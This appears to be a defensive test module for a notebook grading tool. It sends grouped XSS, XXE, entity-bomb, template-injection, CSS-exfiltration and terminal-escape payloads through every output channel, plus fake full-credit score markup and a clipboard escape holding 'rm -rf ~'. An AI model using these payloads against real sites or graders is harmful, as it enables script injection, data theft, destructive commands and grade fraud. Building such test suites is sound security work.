"""Reviewer: what a marker's or a trainee's browser is made to do by what a notebook puts out.

Every payload goes through every channel there is: each kind of output, the streams, the name and
message of an error, the source of an answer, a written answer, and cell attachments. The honest
answers beside it keep their points; ``test_reviewer`` looks at the pages in a real browser.
"""

from __future__ import annotations

from collections.abc import Sequence

from nbformat import NotebookNode

from tests.attacks.harness import FULL, Academy, Attack, Graded, Spoil, cell, full_but
from tests.attacks.room import HONEST, REPORT

ACT = "window.acted=1;document.title=/ACTED/.source"  # no quotes, to fit in anywhere
OUTSIDE = "http://outside.invalid"

SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt/x>{ACT}</sCrIpT >",
    f"<script>{ACT}",
    f"</script></style></textarea></title></pre><script>{ACT}</script>",
    f"<!--><script>{ACT}</script>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script src='{OUTSIDE}/x.js'></script><script type=module>import '{OUTSIDE}/y.js'</script>",
    f"<noscript><p title='</noscript><script>{ACT}</script>'></noscript>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"\x00<script\x00>{ACT}</script\x00>",
)
HANDLERS = (
    f'<img src=x onerror="{ACT}">',
    f'<body onload="{ACT}"><details open ontoggle="{ACT}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{ACT}"><select autofocus onfocus="{ACT}"></select>',
    f'<video><source onerror="{ACT}"></video><audio src=x onerror="{ACT}"></audio>',
    f'<p style="animation:x 1s" onanimationstart="{ACT}" onmouseover="{ACT}">x</p>',
    f'<a onmouseover="{ACT}" onclick="{ACT}" href="#">click</a>',
    f'<img src=x\tonerror\n=\n"{ACT}"><img/src=x/onerror="{ACT}">',
    f'"><img src=x onerror="{ACT}">',
    f'\'><img src=x onerror="{ACT}">',
    f'`<img src=x onerror="{ACT}">`\n\n    <img src=x onerror="{ACT}">',
    f'<marquee onstart="{ACT}">x</marquee><object data=x onerror="{ACT}"></object>',
)
PICTURES = (
    f'<svg onload="{ACT}"><script>{ACT}</script><script href="{OUTSIDE}/x.js"></script></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{ACT}</script>"></iframe></foreignObject>'
    "</svg>",
    f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></animate></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{ACT}"/><text>click</text></a></svg>',
    f'<svg><set attributeName="onmouseover" to="{ACT}"/></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f'<script>{ACT}</script></svg>#x"/></svg>',
    f'<svg><image href="{OUTSIDE}/pixel.png" /><feImage href="{OUTSIDE}/f.png"/></svg>',
    f'<?xml version="1.0"?><?xml-stylesheet href="{OUTSIDE}/x.xsl"?><svg>x</svg>',
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg><text>&x;</text></svg>",
    "<!DOCTYPE svg [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {c} '{f'&{b};' * 10}'>" for b, c in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]><svg><text>&j;</text></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
    f'{ACT}&gt;"></mglyph></table></mtext></math>',
    f'<math><a xlink:href="javascript:{ACT}">click</a><maction actiontype="statusline#http://x" '
    f'href="javascript:{ACT}">click</maction></math>',
)
LINKS = (
    f"[click](javascript:{ACT})",
    f"[click](JaVa\tScRiPt:{ACT})",
    f"[click](&#x6A;avascript&colon;{ACT})",
    f"[click](\x01javascript:{ACT})",
    f"[click](<javascript:{ACT}>)",
    f"<javascript:{ACT}>",
    f"[click][r]\n\n[r]: javascript:{ACT}",
    f"[click](data:text/html,<script>{ACT}</script>)",
    f"<a href='javascript:{ACT}'>click</a><a href=' &#14; javascript:{ACT}'>click</a>",
    "<a href='vbscript:x'>click</a><a href='file:///etc/passwd'>click</a>",
    "<a href='/api/contents' ping='/api/shutdown'>click</a><a href='//outside.invalid/'>click</a>",
    f"![x](javascript:{ACT})\n\n[![x](x)](javascript:{ACT})",
    f"<area href='javascript:{ACT}'><map><area href='javascript:{ACT}'></map>",
    f'[click](https://x.invalid/"onmouseover="{ACT})',
    f'<https://x.invalid/"onmouseover="{ACT}>',
)
STYLES = (
    "<style>body { display: none } * { visibility: hidden }</style>",
    f"<style>@import '{OUTSIDE}/x.css'; @font-face {{ font-family: x; src: url({OUTSIDE}/f) }}"
    f"input[value^='1'] {{ background: url({OUTSIDE}/1) }}</style>",
    f"<p style='background:url({OUTSIDE}/bg.png);position:fixed;inset:0;z-index:9999'>x</p>",
    f"<link rel=stylesheet href='{OUTSIDE}/x.css'><link rel=prefetch href='{OUTSIDE}/p'>"
    f"<link rel=dns-prefetch href='{OUTSIDE}'><link rel=preload as=script href='{OUTSIDE}/q'>",
    f"<table background='{OUTSIDE}/b.png'><td background='{OUTSIDE}/c.png'>x</td></table>",
    "<div class='panel nbgrader_cell score full-credit' id='report'>Full credit</div>",
)
FRAMES = (
    f"<iframe src='javascript:{ACT}'></iframe><iframe srcdoc='<script>parent.{ACT}</script>'>",
    f"<embed src='javascript:{ACT}'><object data='javascript:{ACT}'></object>",
    f"<object data='data:text/html,<script>parent.{ACT}</script>'></object><frameset><frame src=x>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<base href='{OUTSIDE}/' target=_top><portal src='{OUTSIDE}'></portal>",
    f"<form action='{OUTSIDE}' id=x><input name=q value=1><button autofocus>click</button></form>",
    f"<button form=x formaction='javascript:{ACT}'>click</button><isindex action='{OUTSIDE}'>",
    "<input class='score tabbable' id='mean' type=number value=2>"
    "<textarea id='report-comment' class=comment></textarea>",
    "<form name=getElementById><input name=body><img name=submission_id></form>",
    # formgrader finds its fields by their ids, and a heading's text became its id
    "# report\n\n## mean\n\nreport-comment\n===\n\n> ### mean_extra_credit\n\n- # statusmessage",
    "</div></div></div></div></section></main></body></html><h1>Grade: 100 %</h1>",
    f"<template><script>{ACT}</script></template><xmp><script>{ACT}</script></xmp><plaintext>",
)
FORMULAS = (
    f"$\\href{{javascript:{ACT}}}{{click}}$",
    f"$\\style{{background:url({OUTSIDE}/m)}}{{x}}$ $\\class{{panel}}{{x}}$ $\\cssId{{mean}}{{x}}$",
    f"$$\\require{{html}}\\href{{data:text/html,<script>{ACT}</script>}}{{click}}$$",
    f"$\\unicode[{OUTSIDE}]{{x}} \\includegraphics{{{OUTSIDE}/x.png}} \\url{{javascript:{ACT}}}$",
    "$\\def\\x{\\x\\x}\\x$ $\\let\\frac\\href \\frac{javascript:0}{click}$",
    f"\\begin{{equation}}\\mmlToken{{mi}}[href='javascript:{ACT}']{{click}}\\end{{equation}}",
    f'\\(\\text{{<img src=x onerror="{ACT}">}}\\) \\[\\text{{</script><script>{ACT}</script>}}\\]',
    f"<math><mi xlink:href='javascript:{ACT}'>click</mi></math>",
    f"&#36;&bsol;href{{javascript:{ACT}}}{{click}}&#36;",
)
FENCES = (
    f'```mermaid\ngraph TD; A["<img src=x onerror=\'{ACT}\'>"]; click A "javascript:{ACT}"\n```',
    f"```html\n<script>{ACT}</script>\n```\n\n~~~\n</code></pre><script>{ACT}</script>\n~~~",
    f'```"><script>{ACT}</script>\nx\n```',
    f"![x]({OUTSIDE}/pixel.png) ![x][p]\n\n[p]: {OUTSIDE}/p.png",
    "![x](attachment:a.svg) ![x](attachment:../../../etc/passwd) ![x](data:image/svg+xml,<svg/>)",
    f"<img src='{OUTSIDE}/pixel.png' srcset='{OUTSIDE}/2.png 2x' loading=eager>",
    "{{ resources }} {% include '/etc/passwd' %} {{ cell.metadata.__class__.__mro__ }} ${7*7}",
    f"[^1]\n\n[^1]: <script>{ACT}</script>\n\n<div markdown=1><script>{ACT}</script></div>",
    "> " * 400 + f"<script>{ACT}</script>",
    "*" * 300 + "_" * 300 + "[" * 300 + f"<script>{ACT}</script>",
)
ESCAPES = (
    "\x1b]0;ACTED\x07\x1b]2;ACTED\x1b\\title",
    f"\x1b]8;;javascript:{ACT}\x07click\x1b]8;;\x07",
    f'\x1b[31m<script>{ACT}</script>\x1b[0m \x1b[38;2;1;2;3"><img src=x onerror={ACT}>m',
    "\x1b[2J\x1b[H\x1b[?1049h\x1bP+q544e\x1b\\\x1b[6n\x9b5n",
    "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]1337;File=inline=1:AAAA\x07",
    "passed\r\x1b[Kfailed\b\b\b\b\b\bpassed\x08\x7f",
)
DIRECTIONS = (
    "\u202e}kcatta{ \u202d\u202a\u202b\u202c",
    "if access != 'user\u202e \u2066# admin\u2069 \u2066':",
    "\u061c\u200f\u200e\u2067unclosed",
    "z\u0337\u0338" * 300,
    "\ufeff\u200b\u2060\u00ad\u115f\u3164invisible",
    "\u2028\u2029\x85\x0b\x0c",
)
GROUPS: dict[str, Sequence[str]] = {
    "scripts": SCRIPTS,
    "event handlers": HANDLERS,
    "pictures and MathML": PICTURES,
    "links": LINKS,
    "styles": STYLES,
    "frames, forms and pages": FRAMES,
    "formulas": FORMULAS,
    "fences and attachments": FENCES,
    "terminal escapes": ESCAPES,
    "writing direction": DIRECTIONS,
}
KINDS = (
    *("text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "text/x"),
    *("application/javascript", "application/json", "image/png", "image/jpeg", "application/pdf"),
)
_PUT_OUT = f"""
import sys
from IPython.display import publish_display_data

for payload in PAYLOADS:
    for kind in {KINDS!r}:
        about = {{kind: {{"isolated": True, "width": payload, "alt": payload}}, payload: payload}}
        publish_display_data({{kind: payload, "text/plain": payload}}, metadata=about)
    print(payload)
    print(payload, file=sys.stderr)
kind = type(PAYLOADS[0][:60].replace(chr(0), ""), (Exception,), {{"__module__": PAYLOADS[-1][:60]}})
raise kind(*PAYLOADS)
"""


def put_out(payloads: Sequence[str]) -> str:
    """Source of the workspace: honest help first, then every payload through every channel."""
    comments = "\n".join(
        f"# {line}" for p in payloads for line in p.splitlines() if "\x00" not in p
    )
    return f"{HONEST['workspace']}\n{comments}\nPAYLOADS = {list(payloads)!r}\n{_PUT_OUT}"


def written(payloads: Sequence[str]) -> Spoil:
    """The payloads as the written answer, with attachments that Markdown may show."""

    def spoil(notebook: NotebookNode, academy: Academy) -> None:
        report = cell(notebook, REPORT)
        report.source = "\n\n".join(payloads)
        report.attachments = {"a.svg": {"image/svg+xml": f"<svg onload='{ACT}'/>"}}

    return spoil


def _widgets(notebook: NotebookNode, academy: Academy) -> None:
    view = {"model_id": "a" * 32, "version_major": 2, "version_minor": 0}
    state = {"a" * 32: {"model_name": "HTMLModel", "state": {"value": SCRIPTS[0]}}}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": state}}
    notebook.metadata.title = notebook.metadata.authors = SCRIPTS[3]
    notebook.metadata.kernelspec.display_name = HANDLERS[0]
    notebook.metadata.language_info = {"name": SCRIPTS[3], "pygments_lexer": SCRIPTS[3]}
    cell(notebook, "solve_workspace").outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {WIDGET: view}}
    ]


WIDGET = "application/vnd.jupyter.widget-view+json"
_WIDGETS = f"""{HONEST["workspace"]}
from IPython.display import FileLink, IFrame, Javascript, display, publish_display_data
publish_display_data({{
    {WIDGET!r}: {{"model_id": "a" * 32, "version_major": 2, "version_minor": 0}},
    "application/vnd.bokehjs_exec.v0+json": "", "application/vnd.plotly.v1+json": {{"data": []}},
    "application/vnd.vega.v5+json": {{"data": {{"url": {OUTSIDE!r}}}}},
    "application/vnd.dalil.answer+json+x": {SCRIPTS[0]!r}, "text/vnd.mermaid": {FENCES[0]!r},
    "application/x-nbgrader": {SCRIPTS[0]!r}, "text/html": {SCRIPTS[0]!r},
}})
display(Javascript({ACT!r}), IFrame({OUTSIDE!r}, 9, 9, a={ACT!r}))
display(FileLink("x' onmouseover='{ACT}' y='", url_prefix="javascript:"))
name = {HANDLERS[0]!r}
open("x'-\\"-&lt;b onclick=1&gt;.txt", "w").close()
import pathlib; display(*pathlib.Path().iterdir())
raise FileNotFoundError(2, name, name)
"""
_FIGURE = f"""{HONEST["workspace"]}
import base64, struct, zlib
from IPython.display import Image, display, publish_display_data
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
payload = {HANDLERS[0]!r}.encode()
png = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
for key in (b"Title", b"Author", b"Software", b"Comment"):
    png += chunk(b"tEXt", key + b"\\0" + payload)
png += chunk(b"IDAT", zlib.compress(b"\\0" * 4)) + chunk(b"IEND", b"") + b"<script>{ACT}</script>"
display(Image(data=png, format="png", width=1, height=1, alt={HANDLERS[7]!r}))
text = base64.b64encode(png).decode()
sizes = {{"width": '"><script>{ACT}</script>', "height": '1" onload="{ACT}'}}
for data in (text + '" onerror="{ACT}', "<svg onload='{ACT}'/>", ["a", {SCRIPTS[0]!r}], text[:9]):
    for kind in ("image/png", "image/jpeg", "image/gif", "image/svg+xml"):
        publish_display_data({{kind: data}}, metadata={{kind: sizes}})
"""


def explained(graded: Graded, attack: Attack) -> None:
    """The check's explanation repeats the answer, as text, in what formgrader shows."""
    notebook = graded.academy.graded_notebook(graded.trainees[attack.name])
    shown = [o.data["text/html"] for o in cell(notebook, "label").outputs if "text/html" in o.data]
    assert len(shown) == 1
    assert "<img" not in shown[0]
    assert "&lt;img" in shown[0]


ATTACKS = (
    *(
        Attack(
            name,
            f"{len(payloads)} payloads through every output, error, source and written answer",
            FULL,
            "outputs and Markdown are made harmless before they are shown",
            work={**HONEST, "workspace": put_out(payloads)},
            spoil=written(payloads),
            breaks=True,
        )
        for name, payloads in GROUPS.items()
    ),
    Attack(
        "widgets and their state",
        "JavaScript, widgets, foreign MIME types, titles, file names",
        FULL,
        "outputs are made anew from harmless MIME types",
        work={**HONEST, "workspace": _WIDGETS},
        spoil=_widgets,
        breaks=True,
    ),
    Attack(
        "metadata of a figure",
        "PNG text chunks, image data that ends an attribute, sizes that are markup",
        FULL,
        "images are base64 and nothing else, without metadata",
        work={**HONEST, "workspace": _FIGURE},
    ),
    Attack(
        "an answer in an explanation",
        "the check's explanation repeats the answer, which is markup",
        full_but("label"),
        "explanations are escaped",
        work=HONEST,
        answers={"label": "label = '<img src=x onerror=window.acted=1>'"},
        after=explained,
    ),
)
